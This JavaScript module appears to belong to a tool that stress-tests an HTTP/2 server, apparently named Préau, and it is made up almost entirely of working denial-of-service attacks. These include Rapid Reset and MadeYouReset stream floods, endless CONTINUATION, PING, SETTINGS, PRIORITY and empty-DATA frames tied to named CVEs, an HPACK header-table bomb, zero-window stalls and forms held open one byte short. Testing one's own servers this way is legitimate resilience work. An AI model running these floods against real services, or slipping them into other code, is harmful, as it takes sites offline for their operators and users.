// Floods over HTTP/2 in clear text, which Préau speaks to whoever begins with its preface.

import {
  ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, FORM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW, WINDOW_UPDATE,
  asking, frame, greeted, header, settings, text,
} from './frames.mjs';
import { crowd, leave, pause, pour, rest, until } from './line.mjs';

/** The server's window of a stream, as it announces it. */
const STREAM_WINDOW = 64 << 10;
const KIB = 1 << 10;

/** On so many connections at a time: what `say(stream)` gives, for one stream after the other, as fast as it is taken. */
function streams(target, tally, count, say, { pairs, reads = true, batch = 50, what = 'streams' } = {}) {
  return crowd(target, tally, count, async (goes) => {
    const socket = await greeted(target, tally, pairs);
    if (!socket) return;
    if (!reads) socket.pause();
    let stream = 1;
    const next = () => {
      const pieces = [];
      for (let made = 0; made < batch; made += 1, stream += 2) pieces.push(say(stream));
      return Buffer.concat(pieces);
    };
    await pour(socket, () => goes() && stream < 2 ** 30, next, () => tally.add(what, batch));
    await rest(socket, tally, goes);
  });
}

const cancel = (stream) => frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8]));

export const floods = {
  'rapid-reset': {
    what: 'CVE-2023-44487: pages asked for and cancelled at once',
    run(target, tally) {
      const head = asking('GET', target.page, [header('cookie', target.cookie)]);
      const say = (stream) => Buffer.concat([frame(HEADERS, END_STREAM | END_HEADERS, stream, head), cancel(stream)]);
      return streams(target, tally, 10, say);
    },
  },
  'made-you-reset': {
    what: 'CVE-2025-8671: forms begun, and an error in each, so that the server resets it',
    run(target, tally) {
      const head = asking('POST', '/login', FORM);
      const nothing = Buffer.alloc(4);
      const say = (stream) => Buffer.concat([frame(HEADERS, END_HEADERS, stream, head), frame(WINDOW_UPDATE, 0, stream, nothing)]);
      return streams(target, tally, 10, say);
    },
  },
  continuation: {
    what: 'CVE-2024-27316: a head that goes on in frames without end',
    run(target, tally) {
      const more = frame(CONTINUATION, 0, 1, header('x', 'y'.repeat(16_000)));
      return crowd(target, tally, 20, async (goes) => {
        const socket = await greeted(target, tally);
        if (!socket) return;
        socket.write(frame(HEADERS, END_STREAM, 1, asking('GET', '/login')));
        await pour(socket, goes, () => more, () => tally.add('frames'));
        await rest(socket, tally, goes);
      });
    },
  },
  'empty-continuation': {
    what: 'the same in frames of nothing',
    run(target, tally) {
      const more = Buffer.concat(Array(500).fill(frame(CONTINUATION, 0, 1)));
      return crowd(target, tally, 20, async (goes) => {
        const socket = await greeted(target, tally);
        if (!socket) return;
        socket.write(frame(HEADERS, END_STREAM, 1, asking('GET', '/login')));
        await pour(socket, goes, () => more, () => tally.add('frames', 500));
        await rest(socket, tally, goes);
      });
    },
  },
  settings: {
    what: 'CVE-2019-9515: settings without end, whose acknowledgements are not read',
    run: (target, tally) => streams(target, tally, 10, () => settings([[WINDOW, 65_535]]), { reads: false, what: 'frames' }),
  },
  ping: {
    what: 'CVE-2019-9512: pings without end, whose answers are not read',
    run: (target, tally) => streams(target, tally, 10, () => frame(PING, 0, 0, Buffer.alloc(8)), { reads: false, what: 'frames' }),
  },
  'empty-data': {
    what: 'CVE-2019-9518: a form in frames of nothing that never ends',
    run(target, tally) {
      const more = Buffer.concat(Array(500).fill(frame(DATA, 0, 1)));
      return crowd(target, tally, 10, async (goes) => {
        const socket = await greeted(target, tally);
        if (!socket) return;
        socket.write(frame(HEADERS, END_HEADERS, 1, asking('POST', '/login', FORM)));
        await pour(socket, goes, () => more, () => tally.add('frames', 500));
        await rest(socket, tally, goes);
      });
    },
  },
  priority: {
    what: 'CVE-2019-9513: streams that change their order without end',
    run: (target, tally) =>
      streams(target, tally, 10, (stream) => frame(PRIORITY, 0, stream, Buffer.from([0, 0, 0, 0, 16])), { what: 'frames' }),
  },
  'header-table': {
    what: 'HPACK bomb: a header of 4 kB in the table, named 4,000 times in each head',
    run(target, tally) {
      const kept = Buffer.concat([Buffer.from([0x40]), text('x'), text('y'.repeat(4_000))]);
      const first = asking('GET', '/login', [kept]);
      const again = asking('GET', '/login', [Buffer.alloc(4_000, 0xbe)]);
      const say = (stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, stream === 1 ? first : again);
      return streams(target, tally, 10, say, { batch: 5 });
    },
  },
  'window-0': {
    what: 'pages asked for on 64 streams with a window of nothing: answers that nobody takes',
    async run(target, tally) {
      const goes = until(target.seconds);
      const head = asking('GET', target.page, [header('cookie', target.cookie)]);
      const all = Buffer.concat(Array.from({ length: 64 }, (_, at) => frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * at, head)));
      const sockets = [];
      for (let made = 0; made < 30 && goes(); made += 1) {
        const socket = await greeted(target, tally, [[WINDOW, 0]]);
        if (!socket) continue;
        socket.write(all);
        sockets.push(socket);
        await pause(100);
      }
      while (goes()) await pause(50);
      leave(sockets, tally);
    },
  },
  'held-forms-2': {
    what: 'forms of 255 KiB on 64 streams of each connection, of which the last byte never comes',
    async run(target, tally) {
      const goes = until(target.seconds);
      const sockets = [];
      for (let made = 0; made < 30 && goes(); made += 1) {
        const socket = await holding(target, tally);
        if (socket) sockets.push(socket);
        await pause(100);
      }
      while (goes()) await pause(50);
      leave(sockets, tally);
    },
  },
};

/** A connection on which 64 forms are sent but for their last byte, as its windows let them. */
async function holding(target, tally) {
  const left = new Map(Array.from({ length: 64 }, (_, at) => [1 + 2 * at, 255 * KIB]));
  const windows = new Map([...left.keys()].map((stream) => [stream, STREAM_WINDOW]));
  // Until the server says more, the connection's is what the standard gives.
  let whole = 65_535;
  const send = (socket) => {
    for (const [stream, bytes] of left) {
      const size = Math.min(bytes, windows.get(stream), whole, 16 * KIB);
      if (size <= 0 || socket.destroyed) continue;
      socket.write(frame(DATA, 0, stream, Buffer.alloc(size, 'a')));
      tally.add('MB sent', size / 1e6);
      whole -= size;
      windows.set(stream, windows.get(stream) - size);
      left.set(stream, bytes - size);
    }
  };
  const told = ({ kind, flags, stream, payload }, socket) => {
    if (kind === RST_STREAM || (kind === HEADERS && flags & END_STREAM)) left.delete(stream);
    if (kind === SETTINGS && !(flags & ACK)) socket.write(frame(SETTINGS, ACK, 0));
    if (kind !== WINDOW_UPDATE) return;
    const more = payload.readUInt32BE(0);
    if (stream === 0) whole += more;
    else windows.set(stream, (windows.get(stream) ?? 0) + more);
    send(socket);
  };
  const socket = await greeted(target, tally, [], told);
  if (!socket) return undefined;
  const length = header('content-length', String(255 * KIB + 1));
  const head = asking('POST', '/login', [...FORM, length]);
  for (const stream of left.keys()) socket.write(frame(HEADERS, END_HEADERS, stream, head));
  send(socket);
  return socket;
}
